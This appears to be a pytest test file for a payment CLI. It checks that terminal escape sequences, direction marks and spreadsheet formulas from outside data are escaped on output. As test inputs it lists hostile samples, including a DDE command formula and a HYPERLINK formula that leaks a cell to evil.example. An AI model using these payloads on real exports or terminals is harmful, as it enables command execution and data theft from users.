"""Nothing that comes from outside acts on a terminal or in a spreadsheet, in any format."""

from __future__ import annotations

import ast
import csv
import io
import json
import unicodedata
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from portone_v1_cli.output.output import as_csv
from portone_v1_cli.spec.fields import Field
from portone_v1_cli.terminal.text import as_json, plain, printable, printable_lines

from .conftest import Run
from .scripted import Scripted

CLI = Path(__file__).resolve().parents[2] / "cli" / "portone_v1_cli"

# Escape sequences of both kinds, a bell, a line that overwrites, deletion, direction marks, line
# and paragraph separators, a tag character.
HOSTILE = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x85",
    "paid\rfailed",
    "\x08\x7f",
    "\u202egnp.exe",
    "\u2066\u200f\u061c",
    "\u2028\u2029",
    "\ufeff\U000e0041",
)
texts = st.lists(st.sampled_from(HOSTILE) | st.text(max_size=5), max_size=4).map("".join)


def raw(text: str) -> set[str]:
    """The characters of a text that can act on a terminal."""
    return {
        one
        for one in text
        if not one.isprintable() and one not in "\n\t" and unicodedata.category(one) != "Zs"
    }


@given(texts)
def test_no_text_acts_on_a_terminal(text: str) -> None:
    """Control characters and direction marks are escaped; what is harmless stays as it is."""
    assert not raw(printable_lines(text))
    assert printable(text).isprintable()
    assert plain({text: text}).isprintable()
    assert raw(text) or printable_lines(text) == text


@given(st.dictionaries(texts, texts | st.lists(texts)))
def test_json_says_the_same_without_acting(value: dict[str, Any]) -> None:
    """JSON has escapes in their place, so that programs read the same value as before."""
    for text in (as_json(value), as_json(value, indent=2)):
        assert not raw(text)
        assert json.loads(text) == value
    assert as_json("한글 é 🙂") == '"한글 é 🙂"'


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("output", ["table", "json", "csv"])
@pytest.mark.parametrize(
    "words",
    [("get", "imp_1"), ("show", "imp_1"), ("find-all", "order-1"), ("get-balance", "imp_1")],
)
def test_an_answer_acts_on_no_terminal(
    run: Run, words: tuple[str, ...], output: str, hostile: str
) -> None:
    """Each text of an answer, those of fields nobody knows and their names, is made harmless."""
    payment = dict.fromkeys(
        ("imp_uid", "merchant_uid", "status", "name", "pay_method", "pg_provider", "currency",
         "card_name", "apply_num", "receipt_url", "buyer_name", "fail_reason", hostile),
        f"a{hostile}b",
    ) | {
        "imp_uid": "imp_1",
        "amount": 1000,
        "cash_receipt_issued": True,
        "type": hostile,
        "paid_at": 1_767_225_600,
        "cancel_history": [{"amount": 10, "reason": hostile, "cancelled_at": hostile}],
        "promotion": {"id": hostile, hostile: [hostile]},
        "primary": hostile,
        "histories": [{"created": hostile, "primary": {"vat": hostile}}],
    }  # fmt: skip
    answer = {"total": 1, "previous": 0, "next": hostile, "list": [payment]}
    value = answer if words[0] == "find-all" else payment
    server = Scripted({"code": 0, "message": None, "response": value})
    result = run("payments", *words, "--output", output, "--show-personal", app=server.app())
    assert not raw(result.stdout), ascii(result.stdout)
    assert not raw(result.stderr)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_an_error_acts_on_no_terminal(run: Run, hostile: str) -> None:
    """The API's message, and words of the command line that an error repeats, are made harmless."""
    server = Scripted({"code": -1, "message": f"no{hostile}", "response": None}, 404)
    for words in (
        ("payments", "get", "imp_1"),
        ("payments", "find-all", hostile, "--sorting", hostile),
        ("payments", "get", "imp_1", f"extra{hostile}"),
        ("payments", "get", "imp_1", f"--option{hostile}"),
        ("payments", "get", "imp_1", "--columns", hostile),
        ("payments", f"command{hostile}"),
        (f"command{hostile}",),
        (f"--option{hostile}",),
        ("payments", "cancel", "i", "--amount", hostile, "--checksum", "none"),
        ("contract", "run", "--config", f"/nowhere/{hostile}"),
    ):
        result = run(*words, app=server.app())
        assert result.exit_code != 0, words
        assert not raw(result.stderr), ascii(result.stderr)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_question_acts_on_no_terminal(run: Run, hostile: str) -> None:
    """What is about to be done is shown before it is confirmed, and cannot show anything else."""
    server = Scripted({"code": 0, "message": None, "response": {}})
    result = run(
        *("payments", "cancel", "--merchant-uid", f"o{hostile}", "--reason", hostile),
        *("--amount", "100", "--checksum", "none"),
        app=server.app(),
        input="n\n",
    )
    assert "Do it?" in result.stderr
    assert not raw(result.stderr), ascii(result.stderr)


def test_all_output_goes_through_one_function() -> None:
    """No other file prints by itself: only `echo` escapes, and knows what a full disk means."""
    found = {}
    for path in sorted(CLI.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in (
                *("print", "typer.echo", "typer.secho", "sys.stdout.write", "sys.stderr.write"),
                *("Console", "rich.print"),
            ):
                found.setdefault(path.relative_to(CLI).as_posix(), set()).add(
                    ast.unparse(node.func)
                )
    assert found == {
        "terminal/echo.py": {"typer.echo", "Console"},
        "terminal/progress.py": {"Console"},
        "main.py": {"print"},  # without Typer there is no echo
    }


# -- spreadsheets ------------------------------------------------------------------------------

TEXT = Field("response", "object", fields=(Field("name", "text"),))
STARTS = "=+-@\t\r\n＝＋－＠"


def cells(value: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(as_csv(value, TEXT), newline="")))


@pytest.mark.parametrize(
    "text",
    ["=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-",
     "+82-10", "--5", "-1e5", "＝1+1", "=", '=HYPERLINK("http://evil.example?"&A1,"x")'],
)  # fmt: skip
def test_a_formula_is_text_in_a_spreadsheet(text: str) -> None:
    """A cell that a spreadsheet would run begins with an apostrophe, as value and as heading."""
    header, row = cells([{"name": text, text: "x"}])
    assert row[0].startswith("'")
    assert header[1].startswith("'")
    assert not raw(row[0])


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-1000, "-1000"), (Decimal("-10.50"), "-10.50"), ("-1000", "-1000"), ("-0.5", "-0.5"),
     (True, "true"), (None, ""), ("a=b", "a=b"), ("", ""), ("2-3", "2-3"), ([-1], "[-1]")],
    ids=repr,
)  # fmt: skip
def test_numbers_stay_numbers(value: Any, cell: str) -> None:
    """An amount below 0 is a number and not text, and so is all that is no formula."""
    assert cells([{"name": value}])[1] == [cell]


@given(st.text(st.sampled_from(STARTS) | st.characters(exclude_categories=["Cs"]), max_size=8))
def test_no_text_is_a_formula(text: str) -> None:
    """Whatever a text is, its cell begins with nothing that a spreadsheet runs."""
    cell = cells([{"name": text}])[1:]
    value = cell[0][0] if cell and cell[0] else ""
    assert not value.startswith(tuple(STARTS)) or Decimal(value) <= 0
    assert not raw(value)


def test_line_ends_in_a_cell_stay_in_their_cell() -> None:
    """An address of two lines is one cell with a line end."""
    assert cells([{"name": "Seoul\r\nGangnam\ttab"}])[1] == ["Seoul\nGangnam\ttab"]
